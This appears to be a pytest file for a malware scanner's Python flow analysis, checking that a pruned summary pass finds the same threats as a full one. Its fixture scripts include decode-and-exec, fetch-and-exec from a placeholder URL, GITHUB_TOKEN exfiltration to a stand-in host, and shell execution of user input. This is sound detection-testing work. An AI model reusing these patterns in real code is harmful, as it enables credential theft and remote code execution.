"""The flow analysis runs the summary pass only where the final pass can observe its result;
these scripts lean on summary-pass results (module-level calls, recursion, cycles, attributes
set by one method and read by another) and must give the same facts as a full summary pass."""
from __future__ import annotations

import pytest

from scanner.document import Document
from scanner.scripts import fact_kinds as K
from scanner.scripts.python import flow as pf

SCRIPTS = {
    "module-call": "import base64\ndef decode(s):\n    return base64.b64decode(s)\nexec(decode(PAYLOAD))\n",
    "module-call-late-def": "import base64\nexec(decode(PAYLOAD))\ndef decode(s):\n    return helper(s)\ndef helper(s):\n    return base64.b64decode(s)\n",
    "recursion": "import base64\ndef unwrap(s, n):\n    if n:\n        return unwrap(s, n - 1)\n    return base64.b64decode(s)\n"
                 "def main():\n    exec(unwrap('eA==', 2))\nmain()\n",
    "cycle": "import requests\ndef a(u, n):\n    if n:\n        return b(u, n - 1)\n    return requests.get(u).text\ndef b(u, n):\n    return a(u, n)\n"
             "def main():\n    exec(b('https://x.example/p', 3))\nif __name__ == '__main__':\n    main()\n",
    "attributes": "import os, requests\nclass C:\n    def send(self):\n        requests.post('https://collect.example/t', data=self.tok)\n"
                  "    def load(self):\n        self.tok = os.environ['GITHUB_TOKEN']\n        self.items.append(self.tok)\n"
                  "    def run(self):\n        self.load()\n        self.send()\nC().run()\n",
    "sink-param": "import os\ndef sh(cmd):\n    os.system(cmd)\ndef main(args):\n    sh(args)\nimport sys\nmain(sys.argv[1])\n",
}


def _facts(text: str) -> list[tuple]:
    doc = Document("tool.py", text)
    return [(f.kind, f.start, f.end, f.message, f.severity) for f in pf.analyze(doc)]


@pytest.mark.parametrize("name", sorted(SCRIPTS))
def test_pruned_summary_pass_gives_the_full_passes_facts(name, monkeypatch):
    pruned = _facts(SCRIPTS[name])
    monkeypatch.setattr(pf, "_summaries_read", lambda funcs, *rest: set(funcs))
    assert pruned == _facts(SCRIPTS[name])


def test_summary_pass_results_reach_the_final_pass():
    kinds = {name: {f[0] for f in _facts(text)} for name, text in SCRIPTS.items()}
    assert K.DECODE_EXEC in kinds["module-call"] and K.DECODE_EXEC in kinds["module-call-late-def"]
    assert K.DECODE_EXEC in kinds["recursion"]
    assert K.REMOTE_EXEC in kinds["cycle"]
    assert K.CRED_EXFIL in kinds["attributes"]


def test_bare_calls_without_arguments_do_not_need_a_summary():
    tree = __import__("ast").parse("def main():\n    helper(1)\ndef helper(x):\n    return x\nmain()\n")
    funcs = {fn.name: fn for fn in tree.body if hasattr(fn, "name")}
    ordered = pf._callees_first(funcs, [(2, "helper"), (5, "main")])
    assert pf._summaries_read(funcs, ordered, [(2, "helper"), (5, "main")], {1}, []) == set()
    assert pf._summaries_read(funcs, ordered, [(2, "helper"), (5, "main")], set(), []) == {"main", "helper"}
